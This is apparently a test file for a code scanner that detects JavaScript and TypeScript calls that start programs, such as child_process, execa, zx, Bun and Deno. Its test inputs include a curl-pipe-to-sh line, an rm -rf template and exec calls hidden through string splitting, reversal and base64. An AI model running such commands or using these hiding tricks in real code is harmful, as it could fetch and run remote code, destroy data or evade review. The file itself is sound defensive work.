// Programs that code starts.
import { expect, test } from 'vitest';
import { processes } from '../../src/behaviors/process.ts';
import { factsOf, HOSTILE } from './facts.ts';

const of = (source: string, path?: string) => factsOf(processes, 'process', source, path);

test.each<[string, string, string | undefined]>([
  ['exec', "require('child_process').exec('ls -l')", 'ls -l'],
  ['exec of a built line', "const { exec } = require('child_process'); exec('curl ' + 'https://a.example/' + x + ' | sh')", 'curl https://a.example/* | sh'],
  ['execSync of a template', "import { execSync } from 'node:child_process'; execSync(`rm -rf ${dir}`)", 'rm -rf *'],
  ['spawn with a list', "import * as cp from 'child_process'; cp.spawn('curl', ['-s', url, '-o', '/tmp/x'])", 'curl -s * -o /tmp/x'],
  ['spawn with settings alone', "require('child_process').spawn('bash', { stdio: 'inherit' })", 'bash'],
  ['spawn of an unknown list', "require('child_process').spawn('git', args)", 'git *'],
  ['list that is pushed to', "const cp = require('child_process'); const a = ['-c']; a.push('id'); cp.spawnSync('sh', a)", 'sh -c id'],
  ['promisified', "const run = require('util').promisify(require('child_process').execFile); run('wget', ['https://a.example/'])", 'wget https://a.example/'],
  ['fork', "require('child_process').fork('./worker.js', ['--x'])", 'node ./worker.js --x'],
  ['own interpreter', "require('child_process').spawn(process.execPath, ['-e', code])", 'node -e *'],
  ['hidden name', "require('child_' + 'process')['ex' + 'ec']('id')", 'id'],
  ['reversed', "require('child_process').exec('di'.split('').reverse().join(''))", 'id'],
  ['base64', "require('child_process').exec(Buffer.from('aWQ=', 'base64').toString())", 'id'],
  ['call', "require('child_process').exec.call(null, 'id')", 'id'],
  ['apply', "require('child_process').exec.apply(null, ['id'])", 'id'],
  ['execa', "import { execa } from 'execa'; await execa('npm', ['publish'])", 'npm publish'],
  ['execa template', "import { $ } from 'execa'; await $`npm ${x} now`", 'npm * now'],
  ['cross-spawn', "require('cross-spawn').sync('npm', ['i'])", 'npm i'],
  ['shelljs', "const shell = require('shelljs'); shell.exec('id')", 'id'],
  ['zx', "import { $ } from 'zx'; await $`id`", 'id'],
  ['zx as a global', 'await $`id`', 'id'],
  ['Bun', "Bun.spawn(['id', '-u'])", 'id -u'],
  ['Bun shell', "import { $ } from 'bun'; await $`id`", 'id'],
  ['Deno', "new Deno.Command('id', { args: ['-u'] })", 'id -u'],
  ['secrets of an address are left out', "require('child_process').exec('curl https://u:p@a.example/x?key=1')", 'curl https://a.example/x'],
  ['compiled TypeScript', 'var import_child_process = __toESM(require("child_process"));(0, import_child_process.exec)("id")', 'id'],
  ['wholly unknown', "export function run(x) { require('child_process').exec(x); }", undefined],
])('%s', (_name, source, command) => {
  const facts = of(source);
  expect(facts.map((fact) => fact.command)).toEqual([command]);
});

test('what is run from an argument says so', () => {
  expect(of("const { exec } = require('child_process'); export function run(line) { exec(line); }")[0]?.origins).toEqual([{ kind: 'argument', name: 'line' }]);
});

test.each(['/x/.exec("y")', 'db.exec("select 1")', 'const exec = (x) => x; exec("id")', "new (require('worker_threads').Worker)('./x.js')", 'regex.exec(text)', "$('.menu').hide()"])('no program: %s', (source) => {
  expect(of(source)).toEqual([]);
});

test.each(HOSTILE)('hostile source %#', (source) => {
  expect(Array.isArray(of(source))).toBe(true);
});
